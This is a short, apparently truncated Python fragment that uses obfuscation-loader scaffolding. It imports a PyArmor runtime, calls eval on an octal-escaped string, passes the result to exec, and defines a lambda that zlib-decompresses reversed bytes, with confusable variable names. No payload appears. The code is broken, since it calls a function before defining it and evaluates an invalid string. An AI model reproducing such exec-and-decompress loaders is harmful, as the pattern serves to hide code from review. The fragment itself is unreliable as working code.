from pyarmor_runtime_000000 import __pyarmor__
__pyarmor__(1)
_____=eval("\145\166")
exec((_)(b'x'))
IlIlIIlI = lIlIlIlI = IIlIlIlI1 = 1
_ = lambda __ : __import__('zlib').decompress(__[::-1])
